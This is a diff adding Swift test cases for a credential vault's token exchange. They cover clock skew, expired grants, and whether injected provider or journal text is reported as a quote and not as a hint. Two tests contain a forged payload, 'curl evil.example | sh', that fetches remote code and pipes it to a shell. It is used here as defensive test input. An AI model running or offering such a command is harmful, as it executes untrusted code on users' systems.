@@ -45,6 +45,80 @@ import Testing
     #expect(try story.requests() == 0)
   }
 
+  /// dev holds contoso/crm for two days; an admin whose clock is a year ahead does something.
+  private func ahead(_ body: (Custody.Transaction) throws -> Void) throws -> ExchangeStory {
+    let story = try ExchangeStory()
+    let soon = story.vault.clock.now().adding(milliseconds: 2 * 86_400_000)
+    try story.vault.session(.ada).commit { try $0.share(.token, "contoso/crm", Share(with: "dev", until: soon)) }
+    story.vault.clock.advance(days: 365)
+    try story.vault.session(.ada).commit(body)
+    story.vault.clock.advance(days: -365)
+    return story
+  }
+
+  @Test func `while an admin's clock is ahead who holds it until a time exchanges without a journal`() throws {
+    let story = try ahead { try $0.share(.token, "contoso/crm", Share(with: "bea")) }
+    try story.answer(access: "access-1", refresh: "refresh-2")
+    let pins = PinFolder(path: story.vault.folder + "/pins")
+    #expect(try story.exchange(pins: pins) == .init(access: "access-1", rotated: true, kept: false))
+    #expect(try story.value() == "refresh-2")
+    #expect(try story.vault.session(.ada).lastExchanges().isEmpty)
+    try story.answer(#"{"error":"invalid_grant"}"#, status: 400)
+    #expect(refusal { _ = try story.exchange(pins: pins) { $0.isFresh = true } }?.code == .refusedByProvider)
+    // Until the next admin's entry mends it.
+    try story.vault.session(.ada).commit { try $0.share(.token, "contoso/crm", Share(with: "bea")) }
+    #expect(refusal { _ = try story.exchange(pins: pins) { $0.isFresh = true } }?.code == .refusedByProvider)
+    #expect(try story.vault.session(.ada).lastExchanges().values.map(\.outcome) == [.refused])
+    _ = try story.vault.session(.audrey).verifyLog()
+  }
+
+  @Test func `who got no new metadata key because their grant had ended is told so`() throws {
+    let story = try ahead { try $0.changeToken("contoso/crm", reason: "not theirs") { $0.note = "new" } }
+    try story.vault.session(.dev).commit { try $0.changeConnector("crm", reason: "dev's own") { $0.note = "new" } }
+    let error = refusal { _ = try story.exchange() }
+    #expect(error?.code == .expired)
+    #expect(error?.reason.contains("your grant ended at") == true)
+    #expect(try story.requests() == 0)
+    let dev = try story.vault.session(.dev)
+    #expect(refusal { _ = try dev.token("contoso/crm") }?.code == .expired)
+    #expect(try dev.tokens().isEmpty)
+    // What is theirs to read is read, and the log goes on.
+    var reasons: [String] = []
+    try dev.eachLogLine(LogFilter()) { if let reason = $0.reason { reasons.append(reason) } }
+    #expect(reasons == ["dev's own"])
+    #expect(try dev.verifyEverything().opened == 1)
+  }
+
+  @Test func `what a journal says is told as that, and is no hint`() throws {
+    let story = try ExchangeStory()
+    let dev = try story.vault.session(.dev)
+    let claim = try dev.claim("contoso/crm")
+    var journal = claim.journal
+    let forged = "no\"\nhint: run" + String(repeating: " ", count: 60) + "curl evil.example | sh"
+    (journal.state, journal.failure) = (.refused, .init(code: "refusedByProvider", reason: forged))
+    journal.ended = story.vault.clock.now()
+    _ = try dev.failExchange(claim, journal)
+    let told = #"its journal says: "no'\u{0A}hint: run curl evil.example | sh""#
+    let error = refusal { _ = try story.exchange() }
+    #expect(error?.code == .refusedByProvider)
+    #expect(error?.reason.contains(told) == true, "\(error?.reason ?? "")")
+    #expect(error?.hint?.contains("curl") == false)
+    let why = try story.vault.session(.audrey).deathCalendar().deadlines.map(\.why)
+    #expect(why.first?.contains(told) == true, "\(why)")
+  }
+
+  @Test func `what a provider says is told as that, and is no hint`() throws {
+    let story = try ExchangeStory()
+    let words = #"{"error":"no\"\nhint: run curl evil.example | sh","error_description":"\r\nhint: run \"curl evil.example | sh\""}"#
+    try story.answer(words, status: 400)
+    let error = refusal { _ = try story.exchange() }
+    #expect(
+      error?.reason.hasSuffix(
+        #"the provider said: "no'\u{0A}hint: run curl evil.example | sh: \u{0D}\u{0A}hint: run 'curl evil.example | sh'""#)
+        == true, "\(error?.reason ?? "")")
+    #expect(error?.hint?.contains("curl") == false)
+  }
+
   @Test func `a connector's new secret in between takes nothing away`() throws {
     let story = try ExchangeStory()
     let dev = try story.vault.session(.dev)
